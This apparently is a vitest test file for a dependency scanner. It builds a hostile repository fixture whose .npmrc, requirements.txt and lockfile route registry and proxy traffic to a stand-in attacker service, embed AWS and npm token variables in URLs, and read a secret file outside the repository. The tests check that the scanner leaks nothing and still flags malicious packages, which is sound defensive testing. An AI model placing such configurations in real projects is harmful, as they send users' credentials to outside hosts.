// A clone that somebody made to be scanned: it hides, silences, moves, calls private and leaks, all at once. What is malicious is found all the same,
// and nobody hears anything but names of public packages.
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { git } from '../support/git.js';
import { type Service, startService } from '../support/services/service.js';
import { packageJson, useCommandLine } from './support.js';

const cli = useCommandLine();
const SECRETS = { AWS_SECRET_ACCESS_KEY: 'aws-s3cret-of-the-user', NPM_TOKEN: 'npm-t0ken-of-the-user' };

/** Whoever made the repository: they hear of nothing. */
let attacker: Service;

beforeAll(async () => {
  attacker = await startService(() => ({ status: 200, json: {} }));
});
afterAll(() => attacker.close());

async function write(): Promise<void> {
  const host = new URL(attacker.url).host;
  await cli.write({
    '../outside/secret.txt': 'ghp-secret-of-the-user\n',
    '.gitignore': '*\n',
    '.depwarden.jsonc': JSON.stringify({
      rules: Object.fromEntries(
        ['malicious-release', 'integrity-mismatch', 'unknown-package', 'vulnerable-release'].map(rule => [rule, 'off']),
      ),
      cooldown: { days: 0 },
      allow: ['npm:*', 'PyPI:*'],
      privateScopes: ['npm:chalk'],
    }),
    '.npmrc': `@acme:registry=${attacker.url}/\${AWS_SECRET_ACCESS_KEY}/\n//${host}/:_authToken=\${NPM_TOKEN}\nhttps-proxy=${attacker.url}\nproxy=${attacker.url}\nstrict-ssl=false\n`,
    'package.json': packageJson({ chalk: '5.6.1', lodash: '4.17.21', '@acme/part': '1.0.0' }),
    'package-lock.json': JSON.stringify({
      lockfileVersion: 3,
      packages: { '': {}, 'node_modules/lodash': { version: '4.17.21', resolved: `${attacker.url}/lodash/-/lodash-4.17.21.tgz` } },
    }),
    'app/requirements.txt': `--extra-index-url ${attacker.url}/\${AWS_SECRET_ACCESS_KEY}/simple\n--trusted-host ${host}\n-r ../../outside/secret.txt\n-r ${attacker.url}/more.txt\nlitellm==1.82.7\n`,
    'node_modules/chalk/package.json': '{ "name": "chalk", "version": "5.6.0" }',
  });
  git(cli.workspace, 'init', '-q');
  git(cli.workspace, 'add', '--force', '.');
}

/** Everything that was sent to the services of the user. */
function sent(): string {
  const { npm, pypi, osv } = cli.services;
  return JSON.stringify([npm, pypi, osv].flatMap(({ requests }) => requests));
}

describe('a hostile repository', () => {
  it('silences nothing of what is malicious in it', async () => {
    await write();
    const report = await cli.report([], { env: SECRETS });
    const found = report.findings.map(({ rule, package: name, manifest }) => `${manifest} ${name} ${rule}`);
    expect(found).toEqual(
      expect.arrayContaining([
        'app/requirements.txt litellm malicious-release',
        'package.json chalk malicious-release',
        'package-lock.json lodash integrity-mismatch',
      ]),
    );
    expect(report.status).toBe(1);
  });

  it('has nobody told anything but names of public packages', async () => {
    await write();
    await cli.report([], { env: SECRETS });
    expect(attacker.requests).toEqual([]);
    expect(cli.services.npm.requests.map(({ path: asked }) => asked)).toEqual(['/lodash']);
    expect(cli.services.pypi.requests).toEqual([]);
    expect(sent()).not.toMatch(/s3cret|t0ken|ghp-secret|acme|chalk/);
  });

  it('is told what was left out and why, and does not pass for checked', async () => {
    await write();
    const { stdout } = await cli.run(['scan'], { env: SECRETS });
    expect(stdout).toContain('@acme/part: private registry');
    expect(stdout).toContain('--trust, or depwarden trust');
    expect(stdout).toMatch(/secret\.txt is not read: /);
    expect(stdout).toMatch(/more\.txt is not read: /);
    expect(stdout).not.toContain('ghp-secret');
    await writeFile(path.join(cli.workspace, 'package.json'), packageJson({ '@acme/part': '1.0.0' }));
    await writeFile(path.join(cli.workspace, 'app/requirements.txt'), '');
    await writeFile(path.join(cli.workspace, 'package-lock.json'), '{"lockfileVersion":3,"packages":{}}');
    expect((await cli.run(['scan', '--fail-on-unknown'], { env: SECRETS })).status).toBe(3);
  });
});
